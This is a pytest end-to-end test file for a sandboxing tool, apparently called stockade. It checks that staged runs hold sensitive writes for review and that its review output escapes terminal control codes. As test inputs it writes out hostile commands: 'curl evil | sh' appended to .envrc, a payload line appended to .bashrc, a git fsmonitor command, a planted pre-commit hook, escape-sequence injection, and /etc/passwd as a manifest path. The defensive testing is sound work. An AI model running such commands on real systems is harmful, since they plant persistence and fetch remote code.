"""What a hostile review of staged runs found, each closed: the attack fails, and its control works.

Every test here failed before its fix. Marks: what the floor holds read-only in an unstaged
run (the home's files when the project holds the home, a policy file given with -p, a hooks
folder git is told to use, files a link leads to, a git dir under another name) is marked in a
staged one, so that an automatic accept never applies it. Review: the staged bytes never reach
the terminal as control characters. Stages: a damaged or foreign stage is left as it is, never
read without its marks, never removed.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.e2e.boxes import Box

AUTO = '[checkpoints]\nstage = true\naccept = "unmarked"\n[filesystem]\nallow_write = ["."]\n'


def stockade(box: Box, *words: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "stockade.cli.main", *words], cwd=cwd or box.project, env=box.env, capture_output=True, text=True, timeout=120
    )


def _git(box: Box, *words: str, cwd: Path | None = None) -> None:
    env = {**box.env, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
    subprocess.run(["git", *words], cwd=cwd or box.project, env=env, check=True, capture_output=True, timeout=60)


def _settle() -> None:
    time.sleep(0.02)  # what the test made is older than the run: past the coarse clock's tick


def test_a_project_that_holds_the_home_marks_the_home_s_files(vbox: Box) -> None:
    (vbox.home / ".bashrc").write_text("# mine\n")
    _settle()
    policy = vbox.root / "home-policy.toml"
    policy.write_text(AUTO)
    run = vbox.run("echo 'echo PWNED' >> .bashrc && echo ordinary > notes.txt", options=["--policy", str(policy)], cwd=vbox.home)
    assert run.returncode == 0, run
    assert (vbox.home / "notes.txt").read_text() == "ordinary\n", "the control: ordinary work lands"
    assert (vbox.home / ".bashrc").read_text() == "# mine\n", run.stderr
    assert "held for review" in run.stderr and ".bashrc" in run.stderr, run


def test_a_policy_file_given_with_p_inside_the_project_is_marked(vbox: Box) -> None:
    tools = vbox.project / "tools"
    tools.mkdir()
    (tools / "sandbox.toml").write_text(AUTO)
    _settle()
    run = vbox.run(f"echo 'allow_write = [\"{vbox.outside}\"]' >> tools/sandbox.toml; echo x > other.txt", options=["-p", "tools/sandbox.toml"])
    assert run.returncode == 0 and (vbox.project / "other.txt").exists(), run
    assert str(vbox.outside) not in (tools / "sandbox.toml").read_text()
    assert "tools/sandbox.toml" in run.stderr and "held for review" in run.stderr, run


def test_a_bare_repository_under_another_name_is_marked(vbox: Box) -> None:
    (vbox.project / ".stockade.toml").write_text(AUTO)
    assert stockade(vbox, "trust").returncode == 0
    _settle()
    run = vbox.run("git init -q --bare src && git --git-dir=src config core.fsmonitor 'touch /tmp/x' && echo ok > plain.txt")
    assert run.returncode == 0 and (vbox.project / "plain.txt").exists(), run
    config = vbox.project / "src" / "config"
    assert not config.exists() or "fsmonitor" not in config.read_text(), run.stderr
    assert "held for review" in run.stderr and "src/config" in run.stderr, run


def test_the_hooks_folder_git_is_told_to_use_is_marked(vbox: Box) -> None:
    _git(vbox, "init", "-q")
    _git(vbox, "config", "core.hooksPath", ".husky")
    (vbox.project / ".husky").mkdir()
    (vbox.project / ".stockade.toml").write_text(AUTO)
    assert stockade(vbox, "trust").returncode == 0
    _settle()
    run = vbox.run("printf '#!/bin/sh\\ntouch /tmp/ran\\n' > .husky/pre-commit && echo ok > plain.txt")
    assert run.returncode == 0 and (vbox.project / "plain.txt").exists(), run
    assert not (vbox.project / ".husky" / "pre-commit").exists(), run.stderr


def test_a_file_a_runs_later_link_leads_to_is_marked(vbox: Box) -> None:
    (vbox.project / "scripts").mkdir()
    (vbox.project / "scripts" / "env.sh").write_text("export A=1\n")
    os.symlink("scripts/env.sh", vbox.project / ".envrc")
    (vbox.project / ".stockade.toml").write_text(AUTO)
    assert stockade(vbox, "trust").returncode == 0
    _settle()
    run = vbox.run("echo 'curl evil | sh' >> .envrc && echo ok > plain.txt")
    assert run.returncode == 0 and (vbox.project / "plain.txt").exists(), run
    assert (vbox.project / "scripts" / "env.sh").read_text() == "export A=1\n", run.stderr


def test_review_never_prints_a_staged_file_s_control_characters(vbox: Box) -> None:
    assert vbox.run("printf 'hi\\033[2J\\033[Hfake\\tcol\\n' > README.md", options=["--stage"]).returncode == 0
    review = stockade(vbox, "review")
    assert "\x1b" not in review.stdout and "\\x1b[2J" in review.stdout, review.stdout
    assert "fake\tcol" in review.stdout, "the control: a tab stays a tab"


def test_a_damaged_manifest_leaves_the_stage_as_it_is(vbox: Box) -> None:
    assert vbox.run("echo staged > a.txt", options=["--stage"]).returncode == 0
    (manifest,) = (vbox.home / ".local/state/stockade/checkpoints").rglob("stage.json")
    data = json.loads(manifest.read_text())
    for unit in data["units"]:
        del unit["k"]
    manifest.write_text(json.dumps(data))
    for words in (["review"], ["accept"], ["reject"]):
        done = stockade(vbox, *words)
        assert "left as it is: its manifest is damaged" in done.stdout and "Traceback" not in done.stderr, done
        assert done.returncode in (0, 1), done
    assert manifest.exists() and not (vbox.project / "a.txt").exists()
    data["units"][0].update(k="file", p="/etc/passwd")  # an absolute path: never followed, never looped on
    manifest.write_text(json.dumps(data))
    assert "damaged" in stockade(vbox, "accept").stdout


def test_a_host_chmod_while_the_run_goes_is_a_conflict(vbox: Box) -> None:
    (vbox.project / "secrets").mkdir(mode=0o755)
    _settle()
    process = subprocess.Popen(
        [*vbox.command_words(["--stage"]), "--", "/bin/sh", "-c", "echo x > secrets/new; sleep 1"], cwd=vbox.project, env=vbox.env
    )
    time.sleep(0.5)
    os.chmod(vbox.project / "secrets", 0o700)
    assert process.wait(timeout=60) == 0
    accepted = stockade(vbox, "accept")
    assert (vbox.project / "secrets").stat().st_mode & 0o777 == 0o700, accepted.stdout
    assert (vbox.project / "secrets" / "new").exists(), "the control: the new file lands"


def test_removing_a_folder_that_holds_a_repository_is_held(vbox: Box) -> None:
    (vbox.project / "lib").mkdir()
    _git(vbox, "init", "-q", cwd=vbox.project / "lib")
    (vbox.project / "other").mkdir()
    (vbox.project / "other" / "x").write_text("x\n")
    (vbox.project / ".stockade.toml").write_text(AUTO)
    assert stockade(vbox, "trust").returncode == 0
    _settle()
    run = vbox.run("rm -rf lib other")
    assert run.returncode == 0, run
    assert not (vbox.project / "other").exists(), "the control: an ordinary folder's removal lands"
    assert (vbox.project / "lib" / ".git").is_dir(), run.stderr


def test_undo_says_a_stage_waits(vbox: Box) -> None:
    assert vbox.run("echo one > a.txt").returncode == 0
    assert vbox.run("echo staged > b.txt", options=["--stage"]).returncode == 0
    undo = stockade(vbox, "undo")
    assert undo.returncode == 0 and "stage 1 waits for review and is not in the project" in undo.stdout, undo


def test_a_stage_of_an_earlier_folder_at_the_same_path_is_left(vbox: Box) -> None:
    assert vbox.run("echo staged > a.txt", options=["--stage"]).returncode == 0
    os.rename(vbox.project, vbox.root / "old-project")
    vbox.project.mkdir()
    review = stockade(vbox, "review")
    assert "made for an earlier folder at this path" in review.stdout, review
    assert stockade(vbox, "accept").returncode == 1 and not (vbox.project / "a.txt").exists()


def test_an_empty_path_is_a_usage_error(vbox: Box) -> None:
    assert vbox.run("echo staged > a.txt", options=["--stage"]).returncode == 0
    done = stockade(vbox, "accept", "")
    assert done.returncode == 2 and "empty path" in done.stderr and not (vbox.project / "a.txt").exists(), done


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a tmpfs in the project needs root")
def test_a_project_holding_a_mount_point_says_why_it_cannot_be_staged(vbox: Box) -> None:
    data = vbox.project / "data"
    data.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", str(data)], check=True)
    try:
        run = vbox.run("true", options=["--stage"])
        assert run.returncode == 125 and "holds a mount point" in run.stderr and str(data) in run.stderr, run
        assert vbox.run("true").returncode == 0, "the control: unstaged, it runs"
    finally:
        subprocess.run(["umount", str(data)], check=True)
